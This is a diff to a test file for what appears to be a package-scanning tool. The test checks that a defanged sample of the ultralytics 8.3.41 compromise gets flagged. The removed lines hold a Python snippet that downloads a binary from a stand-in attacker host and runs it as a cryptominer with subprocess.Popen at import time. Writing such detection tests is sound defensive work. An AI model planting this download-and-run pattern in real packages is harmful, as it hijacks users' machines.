@@ -4,7 +4,7 @@
  */
 import { analyseContents, type ContentFinding } from '../../src/content/index.js';
 import { severityRank } from '../../src/model/finding.js';
-import { archive, manifest, minifiedBundle, obfuscatedIife, readableModule } from './builders.js';
+import { archive, manifest, minifiedBundle, obfuscatedIife, PY_INIT, PY_MINER, readableModule } from './builders.js';
 
 function worst(findings: ContentFinding[], file: string): ContentFinding {
   const mine = findings.filter((f) => f.evidence.file === file).sort((a, b) => severityRank(b.severity) - severityRank(a.severity));
@@ -47,19 +47,8 @@ describe('content attacks (defanged)', () => {
   });
 
   it('ultralytics 8.3.41: a download from a literal host run with subprocess.Popen in the package __init__', () => {
-    const init = ['"""Utilities."""', 'import os', '', 'def settings():', '    return {"dir": os.getcwd()}', ''].join('\n');
-    const miner = [
-      'import subprocess',
-      'import requests',
-      '',
-      'def _safe_run():',
-      '    data = requests.get("http://miner.attacker.example/xmrig").content',
-      '    open("/tmp/x", "wb").write(data)',
-      '    subprocess.Popen(["/tmp/x", "-o", "pool.attacker.example:3333"])',
-      '',
-      '_safe_run()',
-      '',
-    ].join('\n');
+    const init = PY_INIT;
+    const miner = PY_MINER;
     const before = archive('ultralytics', '8.3.40', { 'ultralytics/utils/__init__.py': init }, 'pypi');
     const after = archive('ultralytics', '8.3.41', { 'ultralytics/utils/__init__.py': init + miner }, 'pypi');
     const f = expectHigh(analyseContents(before, after).findings, 'ultralytics/utils/__init__.py');
